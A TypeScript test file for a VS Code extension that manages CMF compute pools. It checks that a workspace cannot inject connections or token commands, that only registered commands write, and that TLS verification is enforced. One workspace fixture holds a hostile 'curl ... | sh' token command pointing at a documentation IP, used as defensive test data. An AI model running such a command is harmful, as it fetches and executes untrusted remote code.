// Trust: what a workspace can and cannot make the extension do, and TLS verification per connection.
// - Connection settings come from user settings only: config.ts over VS Code's inspect() layers, and the
//   real extension (activated over the fake VS Code of vscode-fake.ts) with a workspace that sets
//   cmfPools.connections to its own server and token command.
// - Workspace files cannot make the extension write: activation, opening and saving a pool file, its
//   CodeLens, settings changes, the explorer and its polling send only GETs (counted at a recording
//   proxy); the extension never runs a write command itself; and, read from the source, only the
//   registered commands reach the lifecycle's writes.
// - TLS verification is on by default; off only for the connection that says so, after a confirmation,
//   with a warning on its tree item (description, icon, tooltip, badge) and the status bar.
import { host, fakeContext, deactivate, FileDecoration, ThemeColor, ThemeIcon, MarkdownString } from './vscode-fake';
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, readdirSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import * as extension from '../../client/src/extension';
import { readConnections, userConnections } from '../../client/src/connections/config';
import type { ConnectionNode } from '../../client/src/explorer/model';
import { recordingProxy, serve, type RecordingProxy, type TestServer } from '../cmf/recording-server';
import { hasOpenssl, makePki, type Pki } from '../cmf/pki';
import { localCmf } from './fakes';

type Cmf = Awaited<ReturnType<typeof localCmf>>;
const ROOT = join(__dirname, '../..');

const poolText = (name: string) =>
  JSON.stringify(
    {
      apiVersion: 'cmf.confluent.io/v1',
      kind: 'ComputePool',
      metadata: { name },
      spec: { type: 'SHARED', clusterSpec: { flinkVersion: 'v1_19', image: 'confluentinc/cp-flink-sql:1.19-cp7', jobManager: { resource: { cpu: 1, memory: '1g' } }, taskManager: { resource: { cpu: 1, memory: '1g' } } } },
    },
    null,
    2,
  );

async function until(what: string, ok: () => boolean, ms = 5000): Promise<void> {
  const end = Date.now() + ms;
  while (!ok()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 10));
  }
}

// package.json's untrustedWorkspaces capability is checked in menus.test.ts with the other contributions.
describe('untrusted workspaces: connection settings from the user only', () => {
  it('config.ts takes cmfPools.connections from the user layer only, whatever the workspace says', () => {
    const workspace = [{ name: 'from-the-folder', url: 'http://203.0.113.7:8080', auth: 'command', tokenCommand: 'curl -s http://203.0.113.7/x | sh' }];
    const user = [{ name: 'mine', url: 'https://cmf.example.com' }];
    // VS Code's layers as inspect() reports them: a merged get() would give the folder's value.
    assert.deepEqual(userConnections({ workspaceValue: workspace }), []);
    assert.deepEqual(userConnections({ workspaceFolderValue: workspace, workspaceValue: workspace }), []);
    assert.deepEqual(userConnections({ globalValue: user, workspaceValue: workspace, workspaceFolderValue: workspace }), user);
    assert.deepEqual(userConnections(undefined), []);
    assert.deepEqual(readConnections(userConnections({ globalValue: user, workspaceValue: workspace })).connections.map((c) => c.name), ['mine']);
  });
});

describe('the extension in a workspace that tries to set its connections, and what makes it send requests', () => {
  let cmf: Cmf;
  let proxy: RecordingProxy;
  let attacker: TestServer;
  let marker: string;
  let api: extension.CmfPoolsTestApi;
  const context = fakeContext();

  before(async () => {
    cmf = await localCmf({ phaseDelayMs: 5000 });
    proxy = await recordingProxy(cmf.url);
    attacker = await serve((_req, res) => res.end('{}'));
    marker = join(mkdtempSync(join(tmpdir(), 'cmf-trust-')), 'the-token-command-ran');
    // The user's own connection, and a pool still PENDING (so the explorer polls it).
    host.settings.globalValue['cmfPools.connections'] = [{ name: 'mine', url: proxy.url, defaultEnvironment: 'development' }];
    host.settings.globalValue['cmfPools.explorer.pollInterval'] = 1;
    // The folder's settings: its own server, a token command, lint settings of its own.
    host.settings.workspaceValue['cmfPools.connections'] = [
      { name: 'from-the-folder', url: attacker.url, auth: 'command', tokenCommand: `node -e "require('fs').writeFileSync(${JSON.stringify(marker)}, 'ran'); console.log('t')"` },
    ];
    host.settings.workspaceValue['cmfPools.rules'] = { 'ha-recommended': 'hint' };
    host.settings.workspaceValue['cmfPools.files'] = ['**/*.json'];
    const res = await fetch(`${cmf.url}/cmf/api/v1/environments/development/compute-pools`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: poolText('moving') });
    assert.equal(res.status, 200);
    api = (await extension.activate(context as never))!;
  });
  after(async () => {
    await deactivate(extension, context);
    await Promise.all([proxy.close(), attacker.close(), cmf.close()]);
  });

  it('activation, pool files, CodeLenses, settings changes, the explorer and its polling: GETs only, to the user\'s CMF only', async (t) => {
    // Pool files opened, edited, saved; their CodeLenses resolved.
    const a = host.openDocument('/work/folder/moving.pool.json', poolText('moving'));
    const b = host.openDocument('/work/folder/other.pool.json', poolText('not-there'));
    for (const d of [a, b]) assert.ok((await host.codeLenses(d)).length > 0);
    // Activation read the selected environment's defaults; the language server, started for the pool files, got them.
    await until('the environment defaults', () => host.recorded.notifications.some((n) => n.method === 'cmfPools/environmentDefaults' && (n.params as { defaults: unknown }).defaults !== null));
    b.setText(poolText('not-there-either'));
    host.events.change.fire({ document: b, contentChanges: [{}] });
    host.events.save.fire(b);
    await host.codeLenses(b);
    // Settings change: the folder's connections again, the proxy, the rules, the poll interval.
    host.setSetting('workspaceValue', 'cmfPools.connections', [{ name: 'from-the-folder-2', url: attacker.url }]);
    host.setSetting('workspaceFolderValue', 'cmfPools.connections', [{ name: 'from-a-folder', url: attacker.url }]);
    host.setSetting('globalValue', 'http.noProxy', ['example.com']);
    host.setSetting('workspaceValue', 'cmfPools.rules', {});
    host.setSetting('workspaceValue', 'cmfPools.explorer.pollInterval', 1);
    // The explorer, shown: every node the tree would render, and a polling round of the PENDING pool.
    host.treeViews.get('cmfPools.explorer')!.visible = true;
    host.treeViews.get('cmfPools.explorer')!.visibility.fire({ visible: true });
    const items = await host.treeItems('cmfPools.explorer');
    assert.deepEqual(items.filter((i) => i.item.contextValue?.startsWith('connection')).map((i) => i.item.label), ['mine'], 'only the user\'s connection');
    // Polling reads one pool or statement at a time (the moving pool, and prod's FAILING statement).
    const polled = () => proxy.lines().filter((l) => /^GET \/cmf\/api\/v1\/environments\/[^/]+\/(compute-pools|statements)\/[^/?]+$/.test(l)).length;
    const before = polled();
    await until('a polling round', () => polled() > before, 3000);
    // Hidden: polling stops (a round under way finishes, and no other starts).
    host.treeViews.get('cmfPools.explorer')!.visibility.fire({ visible: false });
    await until('the round under way to end', () => !api.explorer.model.poller.active);
    const hiddenAt = proxy.requests.length;
    await new Promise((r) => setTimeout(r, 1700));
    assert.equal(proxy.requests.length, hiddenAt, `no requests while hidden: ${proxy.lines().slice(hiddenAt).join(', ')}`);

    assert.ok(proxy.requests.length > 10, proxy.lines().join('\n'));
    assert.deepEqual(proxy.writes(), [], 'only GETs reached CMF');
    assert.equal(attacker.requests.length, 0, "the folder's server was never contacted");
    assert.equal(existsSync(marker), false, "the folder's token command never ran");
    // The extension ran no command of its own but context keys.
    assert.deepEqual([...new Set(host.recorded.executed.map((e) => e.command))], ['setContext']);
    t.diagnostic(`${proxy.requests.length} requests reached CMF, all GET (${polled() - before} of them polling); 0 reached the folder's server; the folder's token command never ran`);
    assert.equal(host.recorded.settingsWrites.length, 0);
  });

  it('only the registered commands reach a write: read from the source', () => {
    const files: string[] = [];
    const walk = (d: string) => readdirSync(d).forEach((n) => (statSync(join(d, n)).isDirectory() ? walk(join(d, n)) : n.endsWith('.ts') && files.push(join(d, n))));
    for (const part of ['client/src', 'cli/src', 'cmf-client/src']) walk(join(ROOT, part));
    const rel = (f: string) => relative(ROOT, f).replace(/\\/g, '/');
    const usesOf = (re: RegExp) => files.filter((f) => re.test(readFileSync(f, 'utf8'))).map(rel).sort();
    // CMF's writes are sent by the lifecycle only (the REST client defines them).
    assert.deepEqual(usesOf(/\.(create|update|delete)ComputePool\(/), ['cmf-client/src/lifecycle.ts']);
    // The lifecycle's writes are called by the commands' logic and the CLI only.
    assert.deepEqual(usesOf(/\b(lc|lifecycle)\.(apply|suspend|resume|delete|forceDelete)\(/), [
      'cli/src/apply.ts',
      'cli/src/delete.ts',
      'cli/src/pool-state.ts',
      'client/src/commands/deploy.ts',
      'client/src/commands/pool-commands.ts',
    ]);
    // The commands that write are called from their registrations only.
    assert.deepEqual(usesOf(/(?<!function )\b(deployPool|suspendPool|resumePool|deletePool|forceDeletePool)\(ctx/), ['client/src/commands/register.ts']);
    const register = readFileSync(join(ROOT, 'client/src/commands/register.ts'), 'utf8');
    for (const [command, fn] of [['suspendPool', 'suspendPool'], ['resumePool', 'resumePool'], ['deletePool', 'deletePool'], ['forceDeletePool', 'forceDeletePool']]) {
      assert.match(register, new RegExp(`poolCommand\\('cmfPools\\.${command}', \\(t\\) => ${fn}\\(ctx, t\\)\\)`));
    }
    assert.match(register, /reg\('cmfPools\.deployPool', async \(arg, index\) => \{\n\s+const d = await poolDocument\(o, arg\);\n\s+if \(d\) return deployPool\(ctx, d\.file, undefined, typeof index === 'number' \? index : undefined\);/);
    // The commands the extension runs itself: context keys, the diff editor, and two that only show things.
    const ran = new Set<string>();
    for (const f of files) for (const m of readFileSync(f, 'utf8').matchAll(/(?:executeCommand|ui\.run)\(\s*'([^']+)'/g)) ran.add(m[1]);
    assert.deepEqual([...ran].sort(), ['cmfPools.selectConnection', 'setContext', 'vscode.diff', 'workbench.actions.view.problems']);
  });
});

describe('TLS verification: on by default, off per connection after a confirmation, with a warning', { skip: !hasOpenssl && 'needs openssl' }, () => {
  let pki: Pki;
  let cmf: Cmf;
  const context = fakeContext();

  before(async () => {
    pki = makePki();
    cmf = await localCmf({ tls: { key: readFileSync(pki.serverKey), cert: readFileSync(pki.serverCert) } });
    const port = new URL(cmf.url).port;
    host.settings.globalValue['cmfPools.connections'] = [
      { name: 'default', url: `https://127.0.0.1:${port}` },
      { name: 'with-ca', url: `https://127.0.0.1:${port}`, caPath: pki.ca },
      { name: 'insecure', url: `https://127.0.0.1:${port}`, insecureSkipVerify: true },
    ];
    await extension.activate(context as never);
  });
  after(async () => {
    await deactivate(extension, context);
    await cmf.close();
  });

  const connectionItems = async () => {
    const items = await host.treeItems('cmfPools.explorer', (i) => /^connection/.test(i.contextValue ?? ''));
    return Object.fromEntries(
      items
        .filter((i) => i.item.contextValue?.startsWith('connection'))
        .map((i) => {
          const kids = items.filter((k) => (k.node as { parent?: unknown }).parent === i.node);
          return [i.item.label, { ...i, kids: kids.map((k) => k.item.label), kidItems: kids.map((k) => k.item) }];
        }),
    );
  };

  it('the same server, three connections: no CA is refused, a CA verifies, only the insecure one skips verification', async () => {
    const c = await connectionItems();
    assert.match(c.default.kids[0], /^Cannot reach default: TLS error/);
    assert.match((c.default.kidItems[0].tooltip as MarkdownString).value, /certificate/i);
    assert.deepEqual(c['with-ca'].kids, ['development', 'prod']);
    assert.deepEqual(c.insecure.kids, ['development', 'prod']);
    assert.ok(host.recorded.output.some((l) => /warn \[insecure\] TLS certificate verification is disabled for https:\/\/127\.0\.0\.1:\d+/.test(l)), host.recorded.output.join('\n'));
    assert.ok(!host.recorded.output.some((l) => /warn \[(default|with-ca)\] TLS certificate verification is disabled/.test(l)));
  });

  it('the insecure connection\'s tree item: description, icon, tooltip and badge warn; the others do not', async () => {
    const c = await connectionItems();
    const insecure = c.insecure.item;
    assert.equal(insecure.description, `127.0.0.1:${new URL(cmf.url).port} · TLS unverified`);
    assert.deepEqual(insecure.iconPath, new ThemeIcon('unlock', new ThemeColor('list.warningForeground')));
    assert.ok(insecure.tooltip instanceof MarkdownString);
    assert.match(insecure.tooltip.value, /TLS verification OFF/);
    assert.match(insecure.tooltip.value, /\*\*TLS certificate verification is off\*\* for this connection/);
    assert.equal(insecure.tooltip.isTrusted, false);
    assert.equal(insecure.contextValue, 'connection.unselected.remote.insecure');
    assert.deepEqual(c.insecure.decoration, new FileDecoration('!', 'TLS certificate verification is off for this connection', new ThemeColor('list.warningForeground')));
    for (const name of ['default', 'with-ca']) {
      const { item, decoration } = c[name];
      assert.equal(item.description, `127.0.0.1:${new URL(cmf.url).port}`, name);
      assert.equal((item.iconPath as ThemeIcon).id, 'plug', name);
      assert.doesNotMatch((item.tooltip as MarkdownString).value, /verification is off|OFF/, name);
      assert.equal(decoration, undefined, name);
    }
    // Selected, the status bar warns too.
    await host.run('cmfPools.selectEnvironment', { kind: 'environment', id: 'e', connection: 'insecure', environment: { name: 'prod' } });
    const bar = host.recorded.statusBar.at(-1)!;
    assert.match(bar.text!, /^\$\(warning\) insecure \/ prod$/);
    assert.deepEqual(bar.backgroundColor, new ThemeColor('statusBarItem.warningBackground'));
    await host.run('cmfPools.selectEnvironment', { kind: 'environment', id: 'e', connection: 'with-ca', environment: { name: 'prod' } });
    assert.equal(host.recorded.statusBar.at(-1)!.backgroundColor, undefined);
  });

  it('Edit Connection: turning verification off asks first; declining changes nothing; keeping it off does not ask again', async () => {
    const node = (name: string) => ({ kind: 'connection', id: JSON.stringify(['connection', name]), connection: (host.settings.globalValue['cmfPools.connections'] as { name: string }[]).find((c) => c.name === name) }) as unknown as ConnectionNode;
    const url = (host.settings.globalValue['cmfPools.connections'] as { url: string }[])[1].url;
    host.reset();
    host.answers.inputs = ['with-ca', url];
    host.answers.picks = ['Do not verify'];
    host.answers.message = () => undefined;
    await host.run('cmfPools.editConnection', node('with-ca'));
    const [modal] = host.recorded.messages.filter((m) => m.modal);
    assert.equal(modal.message, "Turn off TLS certificate verification for connection 'with-ca'?");
    assert.match(modal.detail!, /anyone on the network path can read and change the traffic — including the bearer token/);
    assert.deepEqual(modal.items, ['Turn Off Verification']);
    assert.equal(host.recorded.settingsWrites.length, 0);

    host.reset();
    host.answers.inputs = ['with-ca', url];
    host.answers.picks = ['Do not verify', 'No client certificate', 'No authentication', 'No default environment'];
    host.answers.message = (_k, _m, items, modal) => (modal ? items.find((i) => i === 'Turn Off Verification') : undefined);
    await host.run('cmfPools.editConnection', node('with-ca'));
    assert.equal(host.recorded.messages.filter((m) => m.modal).length, 1);
    const written = host.recorded.settingsWrites.at(-1)!;
    assert.equal(written.key, 'cmfPools.connections');
    assert.equal(written.target, 1, 'user settings (ConfigurationTarget.Global), never the workspace');
    assert.deepEqual((written.value as { name: string; insecureSkipVerify?: boolean }[]).map((c) => [c.name, !!c.insecureSkipVerify]), [['default', false], ['with-ca', true], ['insecure', true]]);

    host.reset();
    host.answers.inputs = ['insecure', url];
    host.answers.picks = ['Do not verify', 'No client certificate', 'No authentication', 'No default environment'];
    host.answers.message = () => undefined;
    await host.run('cmfPools.editConnection', node('insecure'));
    assert.equal(host.recorded.messages.filter((m) => m.modal).length, 0, 'an insecure connection kept insecure is not asked about again');
    assert.equal(host.recorded.settingsWrites.length, 1);
  });
});
